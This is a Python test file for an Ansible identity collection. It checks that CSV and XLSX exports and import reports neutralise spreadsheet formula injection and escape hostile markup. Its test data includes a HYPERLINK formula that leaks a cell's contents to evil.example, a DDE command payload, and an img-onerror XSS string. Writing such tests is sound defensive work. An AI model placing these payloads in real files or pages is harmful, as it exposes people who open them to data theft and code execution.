# -*- coding: utf-8 -*-
# Copyright (c) 2026 cyberark_community.identity contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Exports and reports carry no live formula or markup, and the import reads back exactly what the export meant:
a cell a spreadsheet would run as a formula gets a leading apostrophe (OWASP's CSV injection rule), the import takes
it off again, XLSX cells are string cells, and the Markdown and HTML summaries show a hostile value as text."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

hypothesis = pytest.importorskip("hypothesis")
# pylint: disable=wrong-import-position
from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from ansible_collections.cyberark_community.identity.plugins.module_utils.bulk_import import _export, _import_file, _import_report  # noqa: E402

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"x")'
# Every value a spreadsheet would run, and the values that need an apostrophe so that the mapping stays reversible.
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTabbed", "\rReturned", "'=already quoted", "''", "'"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BOUNDED = settings(max_examples=300, deadline=None, derandomize=True)


def cells():
    from ansible_collections.cyberark_community.identity.plugins.module_utils.bulk_import import _cells  # pylint: disable=import-outside-toplevel
    return _cells


def records_with(values: list[str]) -> tuple[list[dict[str, str]], list[str]]:
    headers = list(_import_file.HEADERS)
    records = []
    for index, value in enumerate(values):
        record = dict.fromkeys(headers, "")
        record.update({"Login Name": f"u{index}@acme.com", "Email Address": f"u{index}@acme.com",
                       "Display Name": value, "Description": value})
        records.append(record)
    return records, headers


@BOUNDED
@given(st.text(alphabet=st.sampled_from(list("ab'= +-@\t\r\n\0\uff1d|")), max_size=6) | st.text(max_size=8))
def test_restore_undoes_neutralise_and_no_neutralised_value_starts_with_a_trigger(value):
    neutral = cells().neutralise(value)
    assert cells().restore(neutral) == value
    assert not neutral.startswith(TRIGGERS)


@BOUNDED
@given(st.text(alphabet=st.sampled_from(list("ab'= +-@|")), max_size=6))
def test_restore_takes_off_only_an_apostrophe_before_a_protected_character(value):
    """A hand-written cell keeps its apostrophe unless one of the characters the rule protects follows it."""
    protected = value.startswith("'") and value[1:2] in TRIGGERS + ("'",)
    assert cells().restore(value) == (value[1:] if protected else value)


def test_csv_export_neutralises_every_formula_cell_and_reads_back_exactly():
    records, headers = records_with(HOSTILE)
    data = _export.content(records, headers, "csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(data)))[1:]
    assert [row[2] for row in rows] == ["'" + value for value in HOSTILE]
    assert not any(cell.startswith(TRIGGERS) for row in rows for cell in row)
    again = _import_file.read_csv(data.encode("utf-8"), "export.csv")
    assert [values["Display Name"] for _n, values in again.rows] == HOSTILE  # the apostrophe keeps even a leading tab
    assert _export.same_records(again, records, headers) is True


def test_xlsx_export_writes_string_cells_never_a_formula(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    records, headers = records_with(HOSTILE[:5] + ["#N/A", "'=already quoted", "plain"])
    path = tmp_path / "export.xlsx"
    path.write_bytes(_export.content(records, headers, "xlsx"))
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet and 't="e"' not in sheet and 't="n"' not in sheet
    book = openpyxl.load_workbook(path)
    written = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in written} == {"s"}
    assert book.active["C2"].value == "'" + HYPERLINK
    again = _import_file.read_xlsx(str(path))
    assert [values["Display Name"] for _n, values in again.rows] == [r["Display Name"] for r in records]
    assert _export.same_records(again, records, headers) is True


def test_an_import_file_cell_with_the_apostrophe_reads_as_the_value_it_protects():
    data = "Login Name,Email Address,Display Name,Mobile number\r\na@acme.com,a@acme.com,'=1+1,'+14155550100\r\n"
    records = _import_file.read_csv(data.encode("utf-8"), "hand.csv")
    assert records.rows == [(2, {"Login Name": "a@acme.com", "Email Address": "a@acme.com", "Display Name": "=1+1",
                                 "Mobile number": "+14155550100"})]


def report_items():
    return [{"row": 2, "login_name": HYPERLINK, "action": "invalid", "outcome": "skipped",
             "message": "Display Name: [click](https://evil.example) <img src=x onerror=alert(1)> `code` | *bold*\nnext"},
            {"row": 3, "login_name": "-2+3@acme.com", "action": "invalid", "outcome": "skipped", "message": "@SUM(1)"}]


SUMMARY = {"rows": 2, "create": 0, "update": 0, "unchanged": 0, "invalid": 2, "failed": 0}


def test_the_csv_report_neutralises_every_cell(tmp_path):
    removal = [{"login_name": "=evil@acme.com", "action": "disable", "outcome": "planned", "message": "+leaver"}]
    _import_report.write(str(tmp_path / "r.csv"), "markdown", SUMMARY, report_items(), "=x.csv", True, removal)
    rows = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8"))))
    assert not any(cell.startswith(TRIGGERS) for row in rows for cell in row)
    assert rows[1][1] == "'" + HYPERLINK and rows[2][4] == "'@SUM(1)" and rows[3][1] == "'=evil@acme.com"


def test_the_markdown_summary_shows_hostile_values_as_text(tmp_path):
    removal = [{"login_name": "[x](https://evil.example)@acme.com", "action": "disable", "outcome": "planned", "message": "a|b"}]
    _import_report.write(str(tmp_path / "r.csv"), "markdown", SUMMARY, report_items(), "[f](https://evil.example).csv", False, removal)
    page = (tmp_path / "r.md").read_text(encoding="utf-8")
    table = [line for line in page.splitlines() if line.startswith("| ")]
    # Every table row has its five (or four) cells: no pipe or line break in a value split a row or started a new one.
    assert [line.replace("\\|", "").count("|") for line in table] == [6, 6, 6, 6, 5, 5, 5]
    bare = re.sub(r"\\.", "", page)  # the page without its escaped characters: no markup character is left
    assert not set("[]()<>`*_~!&") & set(bare) and "https:" not in bare and "https://" not in page
    assert "\\[click\\]\\(https\\://evil.example\\)" in page and "\\<img src=x onerror=alert\\(1\\)\\>" in page


def test_the_apostrophe_comes_off_only_what_an_export_could_have_written():
    # inline records were never exported, and a password is the user's own: neither loses a leading apostrophe
    inline = _import_file.read_inline([{"login_name": "a@acme.com", "email_address": "a@acme.com", "password": "'-Secret123x",
                                        "description": "'=keep"}])
    assert inline.rows[0][1]["Password"] == "'-Secret123x" and inline.rows[0][1]["Description"] == "'=keep"
    from_file = _import_file.read_csv(b"Login Name,Email Address,Description,Password\r\na@acme.com,a@acme.com,'=x,'-Secret123x\r\n", "f.csv")
    assert from_file.rows[0][1]["Description"] == "=x" and from_file.rows[0][1]["Password"] == "'-Secret123x"


@pytest.mark.parametrize("report_format, suffix", [("markdown", ".md"), ("html", ".html")])
def test_a_report_counts_the_removals_the_tenant_shows(tmp_path, report_format, suffix):
    items = [{"row": 2, "login_name": "a@acme.com", "action": "unchanged", "outcome": "ok", "message": ""}]
    removals = [{"login_name": "gone@acme.com", "action": "disable", "outcome": "ok", "message": "disabled"},
                {"login_name": "kept@acme.com", "action": "disable", "outcome": "failed", "message": "refused"}]
    summary = {"rows": 1, "create": 0, "update": 0, "unchanged": 1, "invalid": 0, "failed": 0}
    _import_report.write(str(tmp_path / "r.csv"), report_format, summary, items, "f.csv", False, removals)
    page = (tmp_path / ("r" + suffix)).read_text(encoding="utf-8")
    assert "Nothing changed" not in page and "removed: 1; removals failed: 1" in page
    assert "1 of the 2 users in the scope that the file does not list was disabled." in page
